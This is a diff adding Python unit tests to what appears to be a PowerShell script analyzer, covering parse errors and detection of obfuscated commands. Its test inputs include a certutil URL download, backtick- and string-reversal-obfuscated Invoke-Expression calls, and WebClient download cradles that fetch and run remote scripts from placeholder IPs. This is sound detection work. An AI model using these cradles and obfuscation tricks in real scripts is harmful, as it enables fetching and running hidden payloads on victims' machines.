@@ -69,3 +69,68 @@ def test_script_param_block_after_requires_and_using_is_read() -> None:
         $DefaultPassword
     """)
     assert lines_of(result, "PSAvoidUsingPlainTextForPassword") == [4]
+
+
+def test_unclosed_brace_is_reported_at_the_brace_that_opened_it() -> None:
+    result = analyze("""
+        function Get-Report {
+            foreach ($row in $rows) {
+                Write-Output $row
+            }
+    """)
+    assert lines_of(result, "PSParseError") == [1]
+    assert "'{' here is never closed" in hits(result, "PSParseError")[0].message
+
+
+def test_try_without_catch_is_reported_where_powershell_expects_the_catch() -> None:
+    result = analyze("try {\n    Get-Item -Path C:\\data\n}\nWrite-Output 'after'")
+    assert lines_of(result, "PSParseError") == [3]
+
+
+def test_split_and_join_as_native_command_parameters_parse() -> None:
+    result = analyze("""
+        certutil.exe -urlcache -split -f http://198.51.100.7/b.txt C:\\Users\\Public\\b.txt
+        tool -join
+        return -join $chars
+        $words = -split $line
+    """)
+    assert hits(result, "PSParseError") == []
+
+
+def test_backtick_inside_a_bare_argument_parses_and_counts_for_aliases() -> None:
+    result = analyze("i`E`x (n`ew-ob`jeCt n`et.we`Bcli`EnT).DownloadString('http://192.0.2.81/t.ps1')")
+    assert hits(result, "PSParseError") == []
+    assert lines_of(result, "PSAvoidUsingCmdletAliases") == [1]
+    assert lines_of(result, "PSDownloadCradle") == [1]
+
+
+def test_length_of_a_constant_folds_for_reversal() -> None:
+    result = analyze("""
+        $s = 'noisserpxE-ekovnI'
+        $c = ($s[-1..-($s.Length)] -join '')
+        & $c 'Get-ChildItem'
+    """)
+    assert lines_of(result, "PSObfuscatedCommandName") == [3]
+    assert "Invoke-Expression" in hits(result, "PSObfuscatedCommandName")[0].message
+    assert lines_of(result, "PSAvoidUsingInvokeExpression") == [3]
+
+
+def test_get_variable_wildcard_launcher_resolves_to_iex() -> None:
+    result = analyze("&((Get-Variable '*mdr*').Name[3,11,2] -join '') 'whoami'")
+    assert lines_of(result, "PSObfuscatedCommandName") == [1]
+    assert lines_of(result, "PSAvoidUsingInvokeExpression") == [1]
+
+
+def test_dot_invoked_computed_name_is_a_command_after_folding() -> None:
+    result = analyze(""".("{1}{0}" -f 'X', 'IE') ("{0}{1}" -f 'Write-Out', 'put hi')""")
+    assert lines_of(result, "PSAvoidUsingInvokeExpression") == [1]
+
+
+def test_method_name_in_a_variable_computed_by_reversal_is_folded() -> None:
+    result = analyze("""
+        $rev = 'gnirtSdaolnwoD'
+        $m = -join $rev[-1..-($rev.Length)]
+        (New-Object Net.WebClient).$m('http://198.51.100.4/x') | Invoke-Expression
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [3]
+    assert lines_of(result, "PSObfuscatedCommandName") == [3]
